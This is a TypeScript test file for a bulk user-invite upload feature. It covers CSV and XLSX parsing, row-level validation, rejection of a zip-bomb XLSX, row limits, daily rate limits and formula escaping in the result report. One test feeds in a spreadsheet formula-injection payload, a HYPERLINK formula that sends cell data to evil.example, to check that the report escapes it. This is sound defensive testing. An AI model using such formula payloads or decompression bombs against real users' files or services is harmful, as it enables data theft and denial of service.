import ExcelJS from 'exceljs';
import type { TBackgroundJob, TPresignedUpload, TUserPage } from '@procura/shared';
import { USER_UPLOAD_COLUMNS, USER_UPLOAD_MAX_ROWS } from '@procura/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../platform/csv.js';
import { zeroBomb } from '../../../test/zip-bomb.js';
import { DEMO_ACCOUNTS, startTestApp, type TSession, type TTestApp } from '../../../test/harness.js';
import { settledJob } from '../../../test/background-jobs.js';
import { uploadFile } from '../../../test/uploads.js';

let t: TTestApp;
let clientAdmin: TSession;
beforeAll(async () => {
  t = await startTestApp({ jobs: true });
  clientAdmin = await t.signIn(DEMO_ACCOUNTS.clientAdmin);
});
afterAll(() => t.close());

/** The file through the upload path, then the bulk invite on its key; the first answer that refuses. */
async function upload(session: TSession, fileName: string, content: Buffer | string) {
  type TAnswer = TBackgroundJob & { message?: string; fieldErrors?: Record<string, string[]> };
  const uploaded = await uploadFile(t, session.accessToken, { category: 'user_upload', fileName, content });
  if (uploaded.refused) return { status: uploaded.refused.status, body: uploaded.refused.body as TAnswer, headers: uploaded.refused.headers };
  return t.http<TAnswer>('POST', '/v1/background-jobs/uploaded-user', { token: session.accessToken, body: { fileKey: uploaded.fileKey } });
}

const finished = (session: TSession, id: string) => settledJob(t, session, id);

const resultOf = async (session: TSession, id: string) => {
  const res = await fetch(`${t.baseUrl}/v1/background-jobs/${id}/download`, { headers: { authorization: `Bearer ${session.accessToken}` } });
  return parseCsv(await res.text());
};

describe('bulk invite', () => {
  it('offers a template with the header row', async () => {
    const res = await t.http<string>('GET', '/v1/background-jobs/uploaded-user/template', { token: clientAdmin.accessToken });
    expect(res.status).toBe(200);
    expect(parseCsv(res.body)[0]).toEqual([...USER_UPLOAD_COLUMNS]);
  });

  it('creates and invites the good rows of a CSV, and reports the bad one', async () => {
    const csv = [
      USER_UPLOAD_COLUMNS.join(','),
      'Ann,Bell,ann.bell@example.com,+1,3035550111,Northwind Residential,Client Property Manager,Primary,Yes',
      'Bad,Row,not-an-email,,,,,,',
      '"Carl, Jr.",Dunn,carl.dunn@example.com,,,,,Onsite Member,No',
      'Eve,Fox,eve.fox@example.com,,,GreenLeaf Grounds,,,',
    ].join('\r\n');
    const started = await upload(clientAdmin, 'people.csv', csv);
    expect(started.status).toBe(202);
    const job = await finished(clientAdmin, started.body.id);
    expect(job).toMatchObject({ status: 'success', progress: 100 });
    const rows = await resultOf(clientAdmin, job.id);
    expect(rows[0]).toEqual(['Row', 'Email', 'Outcome', 'Reason']);
    expect(rows.slice(1).map((r) => [r[0], r[2]])).toEqual([
      ['2', 'created'],
      ['3', 'failed'],
      ['4', 'created'],
      ['5', 'failed'],
    ]);
    expect(rows[2][3]).toMatch(/email/);
    expect(rows[4][3]).toMatch(/not one you may add people to/);

    const people = await t.http<TUserPage>('GET', '/v1/users?search=example.com&limit=100', { token: clientAdmin.accessToken });
    const emails = people.body.data.map((u) => u.email);
    expect(emails).toEqual(expect.arrayContaining(['ann.bell@example.com', 'carl.dunn@example.com']));
    expect(people.body.data.find((u) => u.email === 'carl.dunn@example.com')).toMatchObject({
      firstName: 'Carl, Jr.',
      authorized: false,
      contactType: 'Onsite Member',
    });
    expect((await t.mailbox.next('ann.bell@example.com')).text).toMatch(/auth\/verify\?token=/);
  });

  it('reads an XLSX file too', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('People');
    sheet.addRow([...USER_UPLOAD_COLUMNS]);
    sheet.addRow(['Gus', 'Hill', 'gus.hill@example.com', '', '', '', 'Client Admin', 'Secondary', 'Yes']);
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const started = await upload(clientAdmin, 'people.xlsx', buffer);
    const job = await finished(clientAdmin, started.body.id);
    const rows = await resultOf(clientAdmin, job.id);
    expect(rows[1]).toEqual(['2', 'gus.hill@example.com', 'created', '']);
  });

  it('fails the job with a clear message when the header is wrong, and refuses other file types', async () => {
    const started = await upload(clientAdmin, 'wrong.csv', 'name,mail\nA,a@example.com\n');
    const job = await finished(clientAdmin, started.body.id);
    expect(job.status).toBe('error');
    expect(job.error).toMatch(/^The header row of "wrong\.csv" lacks First name/);
    const pdf = await upload(clientAdmin, 'people.pdf', 'x');
    expect(pdf.status).toBe(400);
    // Refused when the upload URL is asked for: the kind of file is not one this upload takes.
    expect(Object.keys(pdf.body.fieldErrors ?? {})).toEqual(['contentType']);
  });

  it('refuses an XLSX that unpacks to 100 MB at upload, naming the file, in milliseconds and without the memory', async () => {
    const bomb = zeroBomb('xl/worksheets/sheet1.xml', 100 * 1024 * 1024);
    const before = process.memoryUsage().rss;
    // The upload URL and the PUT first; the refusal is the check's, timed alone.
    const presigned = await t.http<TPresignedUpload>('POST', '/v1/storage/create-presigned-url', {
      token: clientAdmin.accessToken,
      body: {
        category: 'user_upload',
        fileName: 'bomb.xlsx',
        contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        size: bomb.length,
      },
    });
    expect((await fetch(t.baseUrl + presigned.body.uploadUrl, { method: 'PUT', headers: presigned.body.headers, body: bomb })).status).toBe(204);
    const started = performance.now();
    const res = await t.http<{ message: string; fieldErrors?: Record<string, string[]> }>('POST', '/v1/storage/complete-upload', {
      token: clientAdmin.accessToken,
      body: { fileKey: presigned.body.fileKey },
    });
    const elapsed = performance.now() - started;
    // The upload's check answers 400 for every refused file, as for any other category.
    expect(res.status).toBe(400);
    // The upload's own check refuses it, before the bulk invite sees it: a ZIP of one bare part is no workbook.
    expect(res.body).toMatchObject({ message: "The file's contents are not a XLSX file, as its name says. Upload the original XLSX file." });
    expect(Object.keys(res.body.fieldErrors ?? {})).toEqual(['file']);
    expect(elapsed).toBeLessThan(1000);
    expect(process.memoryUsage().rss - before).toBeLessThan(50 * 1024 * 1024);
    const malformed = await upload(clientAdmin, 'renamed.xlsx', 'First name,Last name,Email\n');
    expect(malformed.status).toBe(400);
    expect(malformed.body).toMatchObject({ message: "The file's contents are not a XLSX file, as its name says. Upload the original XLSX file." });
  });

  it('stops reading at the row limit, CSV or XLSX, and fails the job naming the file', async () => {
    const csv = [USER_UPLOAD_COLUMNS.join(','), ...Array.from({ length: USER_UPLOAD_MAX_ROWS + 1 }, (_, i) => `A${i},B,a${i}@example.com`)].join('\n');
    const fromCsv = await finished(clientAdmin, (await upload(clientAdmin, 'many.csv', csv)).body.id);
    expect(fromCsv).toMatchObject({
      status: 'error',
      error: `"many.csv" has more than ${USER_UPLOAD_MAX_ROWS} rows; the limit is ${USER_UPLOAD_MAX_ROWS}. Split it and upload each part.`,
    });

    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('People');
    sheet.addRow([...USER_UPLOAD_COLUMNS]);
    for (let i = 0; i < 50_000; i += 1) sheet.addRow([`A${i}`, 'B', `a${i}@example.com`]);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    const started = performance.now();
    const fromXlsx = await finished(clientAdmin, (await upload(clientAdmin, 'many.xlsx', xlsx)).body.id);
    expect(fromXlsx).toMatchObject({ status: 'error', error: expect.stringMatching(/^"many\.xlsx" has more than 5000 rows/) });
    // Stopping at 5,001 of 50,000 rows: well under the time a full parse would take.
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('writes a result report whose cells cannot run as formulas', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const csv = [USER_UPLOAD_COLUMNS.join(','), `Mal,Lory,"${evil.replaceAll('"', '""')}"`].join('\r\n');
    const job = await finished(clientAdmin, (await upload(clientAdmin, 'evil.csv', csv)).body.id);
    const res = await fetch(`${t.baseUrl}/v1/background-jobs/${job.id}/download`, { headers: { authorization: `Bearer ${clientAdmin.accessToken}` } });
    const rows = parseCsv(await res.text());
    expect(rows[1].slice(0, 3)).toEqual(['2', `'${evil}`, 'failed']);
  });

  it('starts at most 10 bulk invites per organization a day, then answers 429 with Retry-After (issue #7 item 12)', async () => {
    // Its own workspace, so the other tests' uploads do not spend this budget.
    const vendorAdmin = await t.signIn(DEMO_ACCOUNTS.vendorAdmin);
    const csv = [USER_UPLOAD_COLUMNS.join(','), 'Bad,Row,not-an-email,,,,,,'].join('\r\n');
    for (let i = 0; i < 10; i += 1) expect((await upload(vendorAdmin, `batch-${i}.csv`, csv)).status).toBe(202);
    const refused = await upload(vendorAdmin, 'one-too-many.csv', csv);
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(3600);
    expect(refused.body).toMatchObject({
      statusCode: 429,
      message: expect.stringMatching(/enough bulk invites for today/) as unknown,
      requestId: expect.any(String) as unknown,
    });
    // Another organization still has its own budget.
    expect((await upload(clientAdmin, 'other-org.csv', csv)).status).toBe(202);
  });
});
